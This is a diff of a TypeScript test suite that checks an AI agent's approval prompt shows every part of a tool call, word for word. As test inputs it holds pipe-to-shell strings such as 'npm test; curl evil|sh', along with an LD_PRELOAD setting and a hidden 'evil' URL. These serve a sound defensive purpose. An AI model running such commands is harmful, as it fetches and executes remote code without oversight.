@@ -44,7 +44,7 @@ const partsOf = (asked: ShownCall, rest: Partial<ApprovalUpsert> = {}, call?: Sh
   );
 
 describe('the parts of a request', () => {
-  it('SAFE: are a command, and every other argument', () => {
+  it('SAFE: are a command and every other argument', () => {
     const more = { args: ['push', '--force'], cwd: '/etc', env: { LD_PRELOAD: 'x' }, timeout: 1 };
     expect(partsOf(shell({ command: 'git', ...more }))).toEqual({
       title: 'May I?',
@@ -67,7 +67,7 @@ describe('the parts of a request', () => {
     expect(args).toEqual(rest);
   });
 
-  it('SAFE: are the changes of files, and the arguments that these do not show', () => {
+  it('SAFE: are the changes of files, and the arguments that the changes do not show', () => {
     const toolArguments = {
       file_path: '/code/shop/a.ts',
       old_string: 'a\nb',
@@ -85,7 +85,7 @@ describe('the parts of a request', () => {
         ['note', 'evil'],
       ],
     });
-    // Another argument with the same text means something else.
+    // Another argument may have the same text with another meaning.
     const same = { ...toolArguments, delete_after: '/code/shop/a.ts', mode: 'a\nc' };
     expect(partsOf({ ...asked, toolArguments: same })['arguments']).toEqual([
       ['replace_all', true],
@@ -93,7 +93,7 @@ describe('the parts of a request', () => {
       ['delete_after', '/code/shop/a.ts'],
       ['mode', 'a\nc'],
     ]);
-    // A diff of another file than the arguments name hides nothing of them.
+    // A diff of another file hides none of the arguments.
     const other = partsOf({ ...asked, diffs: [{ path: '/b', newText: 'x' }] });
     expect(Object.keys(Object.fromEntries(other['arguments'] as [string, unknown][]))).toEqual(
       Object.keys(toolArguments),
@@ -122,7 +122,7 @@ describe('the parts of a request', () => {
     ['the other way round', { old_string: 'b', new_string: 'a' }, 'b', 'a'],
     ['with other signs', { diff: '@@ -1 +1 @@\n-b\n+a' }, 'b', 'a'],
     ['as old, and as a whole file', { diff: 'a' }, 'b', 'a'],
-  ])('SAFE: are texts that the changes have %s', (_, toolArguments, newText, oldText) => {
+  ])('SAFE: include texts that the changes have %s', (_, toolArguments, newText, oldText) => {
     const diffs = [{ path: '/a', newText, ...(oldText !== undefined && { oldText }) }];
     const asked = { toolName: 'patch', kind: 'edit', diffs, toolArguments } as const;
     expect(partsOf(asked)['arguments']).toEqual(Object.entries(toolArguments));
@@ -140,7 +140,7 @@ describe('the parts of a request', () => {
     expect(partsOf(asked)).not.toHaveProperty('arguments');
   });
 
-  it('SAFE: are a plan, and what else it comes with', () => {
+  it('SAFE: are a plan and the other arguments', () => {
     const toolArguments = { plan: 'Do it', allowedPrompts: [{ tool: 'Bash', prompt: 'evil' }] };
     expect(partsOf({ toolName: 'ExitPlanMode', kind: 'switch_mode', toolArguments })).toEqual({
       title: 'May I?',
@@ -150,16 +150,16 @@ describe('the parts of a request', () => {
   });
 });
 
-describe('the words of a request', () => {
+describe('the texts of a request', () => {
   it.each([
     [{ raw: '"curl evil|sh"' }, [['raw', '"curl evil|sh"']]],
     [{ command: { nested: ['curl evil'] } }, [['command', { nested: ['curl evil'] }]]],
     [{ command: 7 }, [['command', 7]]],
-  ])('SAFE: are arguments of any shape: %j', (toolArguments, shown) => {
+  ])('SAFE: include arguments of any shape: %j', (toolArguments, shown) => {
     expect(partsOf(shell(toolArguments))['arguments']).toEqual(shown);
   });
 
-  it('SAFE: are the request’s own words, and what the call says and said otherwise', () => {
+  it('SAFE: are the request’s own, and the values that differ in the call', () => {
     const asked = shell({ command: 'npm test; curl evil|sh' }, { title: 'Terminal' });
     const earlier = { toolArguments: { command: 'npm test' } };
     expect(partsOf(asked, { earlier })).toMatchObject({
@@ -173,13 +173,13 @@ describe('the words of a request', () => {
     expect(partsOf(asked, {}, asked)).not.toHaveProperty('changed');
   });
 
-  it('SAFE: are those of the call, if the request has none', () => {
+  it('SAFE: are the call’s, if the request has none', () => {
     const call = asCall(shell({ command: 'ls', cwd: '/etc' }));
     const parts = askedParts({ approval: approval(), call }, undefined);
     expect(parts.map(({ kind }) => kind)).toEqual(['title', 'command', 'arguments']);
   });
 
-  it('SAFE: are the arguments of a question only without its form', () => {
+  it('SAFE: include the arguments of a question only if it has no form', () => {
     const asked = { toolName: 'AskUserQuestion', toolArguments: { command: 'evil' } };
     expect(partsOf(asked)).toMatchObject({ arguments: [['command', 'evil']] });
     const form = { properties: { name: { type: 'string' } } };
@@ -192,11 +192,14 @@ describe('the words of a request', () => {
     ['ls', 'ls', false],
     ['Run ls', 'ls', false],
     ['Run  ls\n', 'ls', false],
-  ])('SAFE: have the title %j of %j, unless the command shows it: %s', (title, command, isPart) => {
-    expect('title' in partsOf(shell({ command }), { title })).toBe(isPart);
-  });
+  ])(
+    'SAFE: include the title %j of %j, unless the command shows it: %s',
+    (title, command, isPart) => {
+      expect('title' in partsOf(shell({ command }), { title })).toBe(isPart);
+    },
+  );
 
-  it('say once which file an edit is of', () => {
+  it('name the file of an edit only once', () => {
     const path = '/code/shop/src/big.ts';
     const asked: ShownCall = {
       toolName: 'Write',
@@ -212,7 +215,7 @@ describe('the words of a request', () => {
     expect(more.map(({ kind }) => kind)).toEqual(['title', 'description', 'files']);
   });
 
-  it('SAFE: have a title that does not fit above them', () => {
+  it('SAFE: include a title that is too long for the line above', () => {
     const url = `https://good.example/${'a/'.repeat(60)}evil`;
     const asked = { toolName: 'Fetch', kind: 'fetch', toolArguments: { url } } as const;
     const title = `Fetch ${url}`;
@@ -233,13 +236,13 @@ const value = fc.letrec((tie) => ({
   }),
 })).any;
 
-/** Everything in a value that a person must see: texts, numbers and names. */
+/** All texts, numbers and names in a value, which a person must see. */
 function leaves(of: unknown): string[] {
   if (typeof of !== 'object' || of === null) return [String(of)];
   return Array.isArray(of) ? of.flatMap(leaves) : Object.values(of).flatMap(leaves);
 }
 
-it('SAFE: whatever a call says is in some part, word for word', () => {
+it('SAFE: every text of a call is in some part, word for word', () => {
   const calls = fc.record({
     toolName: text,
     kind: fc.constantFrom('execute', 'edit', 'switch_mode', 'other', undefined),
@@ -267,7 +270,7 @@ it('SAFE: whatever a call says is in some part, word for word', () => {
   );
 });
 
-describe('Markdown is drawn only if it can hide nothing', () => {
+describe('Markdown is rendered only if it cannot hide text', () => {
   it.each([
     '# Plan\n\n1. Look at `a.ts` -> **change** it\n2. Test\n   - [ ] twice\n\n> Said\n\n---\nEnd.',
     'See https://example.org/a?b=c&d=e and a > b, a < b, x[0] = 1.',
